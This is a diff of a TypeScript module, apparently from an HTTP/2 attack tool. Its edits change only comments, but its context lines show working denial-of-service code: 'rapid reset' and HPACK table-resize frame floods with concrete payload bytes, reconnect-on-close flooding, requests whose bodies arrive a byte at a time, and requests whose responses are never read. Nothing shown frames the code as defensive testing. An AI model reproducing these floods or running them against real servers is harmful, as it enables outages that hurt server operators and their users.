@@ -1,6 +1,6 @@
 /**
- * Attacks by HTTP/2, each run by `attacker.ts`: what a client may send without being refused at
- * once, and far too much of it.
+ * Attacks over HTTP/2, each run by `attacker.ts`: floods of frames that a server does not refuse at
+ * once.
  * @module
  */
 import { setTimeout as sleep } from 'node:timers/promises'
@@ -14,7 +14,7 @@ import {
 } from './http-attacks.ts'
 import { block, type Field, FLAG, FRAME, frame, preface, text, uint32 } from './http2-wire.ts'
 
-/** An attack by HTTP/2. */
+/** An attack over HTTP/2. */
 export type Http2Attack = Attack & {
   /** Names of `FLOODS`; each connection takes the next one. */
   readonly kinds: readonly string[]
@@ -27,10 +27,10 @@ const { END_STREAM, END_HEADERS } = FLAG
 const FRAMES_EACH = 100
 const HEADER_TABLE_INDEX = 62
 
-/** Returns what to send at a time: streams have odd IDs from `id` on, `FRAMES_EACH` of them. */
+/** Returns the next bytes to send: `FRAMES_EACH` streams with odd IDs from `id` on. */
 type Chunk = (id: number, attack: Http2Attack) => readonly Buffer[]
 
-/** What is sent again and again, by name. */
+/** Floods by name. */
 const FLOODS: Readonly<Record<string, Chunk>> = {
   'rapid reset': (id, attack) => [
     request(id, attack, END_STREAM),
@@ -52,7 +52,7 @@ const FLOODS: Readonly<Record<string, Chunk>> = {
     return [frame(FRAME.HEADERS, END_STREAM | END_HEADERS, id, all)]
   },
   'HPACK resizes': (id, attack) => {
-    // From 4,096 bytes to none and back, as often as a frame holds it (RFC 7541 §6.3).
+    // Table size updates from 4,096 bytes to none and back that fill a frame (RFC 7541 §6.3).
     const sizes = Buffer.concat(Array(2000).fill(Buffer.of(0x3f, 0xe1, 0x1f, 0x20)))
     const all = Buffer.concat([sizes, block(fieldsOf(attack))])
     return [frame(FRAME.HEADERS, END_STREAM | END_HEADERS, id, all)]
@@ -66,7 +66,7 @@ const FLOODS: Readonly<Record<string, Chunk>> = {
     id === 1 ? [request(1, attack, 0, 'POST')] : [frame(FRAME.DATA, 0, 1, Buffer.alloc(0))],
 }
 
-/** Floods servers over connections that are opened again whenever the server closes them. */
+/** Floods servers; reconnects whenever the server closes a connection. */
 export function http2Flood(attack: Http2Attack): Promise<Tally> {
   return flood(attack, (socket, index) => {
     const kind = attack.kinds[index % attack.kinds.length] ?? ''
@@ -83,10 +83,10 @@ export function http2Flood(attack: Http2Attack): Promise<Tally> {
   })
 }
 
-/** Requests whose bodies never end, a byte every `pauseMs`. */
+/** Requests with endless bodies: a byte every `pauseMs`. */
 export type Unfinished = Http2Attack & { readonly method: 'GET' | 'POST'; readonly pauseMs: number }
 
-/** Opens connections with requests whose bodies come a byte at a time. */
+/** Opens connections with requests that send their bodies a byte at a time. */
 export async function unfinishedBodies(attack: Unfinished): Promise<Tally> {
   const tally = { connections: 0, closed: 0 }
   const sockets = new Set<ReturnType<typeof openTls>>()
@@ -110,7 +110,7 @@ export async function unfinishedBodies(attack: Unfinished): Promise<Tally> {
   return tally
 }
 
-/** Asks much on each connection and takes nothing: no window for bodies, or no bytes at all. */
+/** Sends many requests and takes no responses: a closed window, or no reads at all. */
 export async function unread(attack: Http2Attack): Promise<Tally> {
   const tally = { connections: 0, closed: 0 }
   for (let i = 0; i < attack.count; i++) {
